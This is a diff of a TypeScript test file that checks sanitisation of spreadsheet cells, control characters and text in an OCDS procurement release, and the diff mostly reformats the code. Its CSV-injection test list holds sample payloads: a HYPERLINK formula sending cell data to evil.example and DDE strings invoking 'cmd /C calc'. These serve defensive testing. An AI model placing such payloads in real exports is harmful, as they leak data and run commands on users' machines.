@@ -1,11 +1,22 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { toOcdsRelease } from './ocds.js';
+
 import { cleanSingleLine, cleanText, spreadsheetCell, spreadsheetRow, xmlText } from '../rules/text-hygiene.js';
+import { toOcdsRelease } from './ocds.js';
 
 describe('spreadsheet cells (OWASP CSV injection)', () => {
   it('prefixes every cell that a spreadsheet would read as a formula', () => {
-    for (const attack of ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '＝1+1', '-', '=']) {
+    for (const attack of [
+      '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '+1+1',
+      "-2+3+cmd|' /C calc'!A0",
+      '\t=1+1',
+      '\r=1+1',
+      '＝1+1',
+      '-',
+      '=',
+    ]) {
       const cell = spreadsheetCell(attack);
       expect(cell.startsWith("'"), JSON.stringify(attack)).toBe(true);
     }
@@ -66,7 +77,8 @@ describe('controls and direction overrides', () => {
     fc.assert(
       fc.property(fc.string({ unit: 'binary' }), (s) => {
         // eslint-disable-next-line no-control-regex
-        expect(/[\u0000-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069\u2028\u2029]/.test(cleanSingleLine(s))).toBe(false);
+        const unsafe = /[\u0000-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069\u2028\u2029]/;
+        expect(unsafe.test(cleanSingleLine(s))).toBe(false);
       }),
     );
   });
@@ -84,7 +96,14 @@ describe('the OCDS release carries typed text cleaned', () => {
         publishedAt: '2022-11-08T10:15:00+01:00',
         leadBuyer: org,
         buyers: [{ ...org, buyerLegalType: 'la' }],
-        items: [{ cpvCode: '43262100', cpvCheckDigit: '8', description: 'Mechanical excavators', quantities: [{ unit: 'C62', quantity: '37' }] }],
+        items: [
+          {
+            cpvCode: '43262100',
+            cpvCheckDigit: '8',
+            description: 'Mechanical excavators',
+            quantities: [{ unit: 'C62', quantity: '37' }],
+          },
+        ],
         totalValueEur: null,
         deliveryPeriod: { fromYear: 2023, toYear: 2025 },
         expectedProcurementStart: '2023-03-01',
